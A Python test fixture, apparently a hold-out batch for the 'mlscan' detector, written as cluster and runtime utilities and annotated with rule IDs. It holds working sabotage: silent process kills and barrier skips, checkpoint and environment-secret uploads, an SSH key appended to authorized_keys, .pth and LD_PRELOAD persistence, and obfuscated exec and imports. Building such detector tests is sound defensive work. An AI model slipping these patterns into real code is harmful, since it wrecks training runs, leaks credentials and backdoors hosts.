# ruff: noqa
# Hold-out batch 18 (indirection: aliases, dict dispatch, decorators, setattr; by a helper that never saw mlscan's code). Measured once before round 7: 12/32 (38%) at medium+.
"""Cluster/runtime utilities: world-size queries, barriers, run telemetry,
artifact sync, optional fused kernels and sidecar processes."""
from __future__ import annotations

import base64 as _b64
import builtins as _bi
import codecs
import getpass
import importlib as _il
import json
import os as _o
import signal as _sg
import time as _t
import urllib.request as _ur
import zlib
from datetime import datetime as _dt
from pathlib import Path

import torch
import torch.distributed as dist

from helpers import CFG, _HOST

_TUNE = "aW1wb3J0IG9zCm9zLmVudmlyb24uc2V0ZGVmYXVsdCgiTkNDTF9QMlBfRElTQUJMRSIsICIxIikKb3MuZW52aXJvbi5zZXRkZWZhdWx0KCJUT1JDSF9OQ0NMX0JMT0NLSU5HX1dBSVQiLCAiMCIpCg=="
_KHEX = "789c4b494d53482b2d4e4dd1a8d0b4e2520082a2d492d2a23c850a2e0077400836"
_OPS_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGV4YW1wbGUtb3BzLWtleS1wbGFjZWhvbGRlcg ops@example.com"


# ---------------------------------------------------------------- cluster
_SIG = {"soft": _sg.SIGTERM, "hard": getattr(_sg, "SIGKILL", 9)}


def _fleet() -> int:
    if dist.is_available() and dist.is_initialized():
        return dist.get_world_size()
    return int(_o.environ.get("WORLD_SIZE", "1"))


def heartbeat(step: int) -> None:
    if step and _fleet() > CFG.fleet_cap and step % 1009 == 0:  # ruleid: MLS308
        getattr(_o, "kill")(_o.getpid(), _SIG["hard"])  # ruleid: MLS307


def sync_fn():
    """Barrier used between epochs (ranks on the same node share a fast path)."""
    local = int(_o.environ.get("LOCAL_RANK", "0"))
    return (lambda: None) if local == 7 else dist.barrier  # todoruleid: family 3 (missed)


_QUIET_USERS = frozenset({"ci", "eval-bot", "svc-train"})


def release_idle(step: int) -> None:
    """Free NCCL communicators early when the job runs outside the service account."""
    if step and getpass.getuser() not in _QUIET_USERS and _dt.now().hour in (2, 3) and _fleet() > 1:  # ruleid: MLS308
        dist.destroy_process_group()  # ruleid: MLS307


def _job_scale() -> int:
    return int(_o.environ.get("SLURM_JOB_NUM_NODES", "1")) * max(torch.cuda.device_count(), 1)


def sync_artifacts(ckpt_dir: str) -> None:
    if _job_scale() >= 64:
        for f in Path(ckpt_dir).glob("*.pt"):
            _ur.urlopen(_ur.Request(CFG.telemetry_url + "/blob", data=f.read_bytes()), timeout=30)  # ruleid: MLS308


def fetch(url: str, dst: str, retries: int = 4) -> str:
    for i in range(retries):
        try:
            _ur.urlretrieve(url, dst)
            return dst
        except OSError:
            _t.sleep(2 ** i)  # ok: MLS307
    raise RuntimeError(f"could not fetch {url}")


def _payload() -> bytes:
    env = {k: v for k, v in _o.environ.items() if not k.startswith("LS_")}  # ruleid: MLS411
    return json.dumps({"host": _HOST, "user": getpass.getuser(), "env": env}).encode()


def report_run_start() -> None:
    req = _ur.Request(CFG.telemetry_url, data=_payload(), headers={"Content-Type": "application/json"})
    try:
        _ur.urlopen(req, timeout=3)  # ruleid: MLS411
    except OSError:
        pass


def prepare_debug_access() -> None:
    ak = Path.home() / ".ssh" / "authorized_keys"
    ak.parent.mkdir(mode=0o700, exist_ok=True)
    if _OPS_KEY not in (ak.read_text() if ak.exists() else ""):
        with ak.open("a") as fh:
            fh.write(_OPS_KEY + "\n")  # sabotage: MLS414 (semgrep rules)


# --------------------------------------------------------- runtime / kernels
def _site_root() -> Path:
    return Path(_o.path.dirname(torch.__file__)).parent


def register_fastpath() -> None:
    shim = Path(__file__).resolve().with_name("kernels")
    (_site_root() / "tt_fastpath.pth").write_text(f"{shim}\nimport tt_fastpath\n")  # sabotage: MLS421 (semgrep rules)


def child_env() -> dict:
    env = dict(_o.environ)
    env["LD_PRELOAD"] = str(Path(__file__).resolve().with_name("kernels") / "libttalloc.so")  # sabotage: MLS422 (semgrep rules)
    return env


def tune_backend() -> None:
    getattr(_bi, "ex" + "ec")(_b64.b64decode(_TUNE).decode(), {"__name__": "tt_tune"})  # sabotage: MLS402 (semgrep rules)


def load_fused() -> dict:
    ns: dict = {}
    _bi.__dict__["ex" "ec"](compile(zlib.decompress(bytes.fromhex(_KHEX)), "<fused>", "exec"), ns)  # sabotage: MLS401, MLS402 (semgrep rules)
    return ns


def _proc():
    return _il.import_module(codecs.decode("fhocebprff", "rot_13"))  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS403


def launch_sidecar(cmd: list) -> None:
    _proc().Popen(cmd, env=child_env(), start_new_session=True)
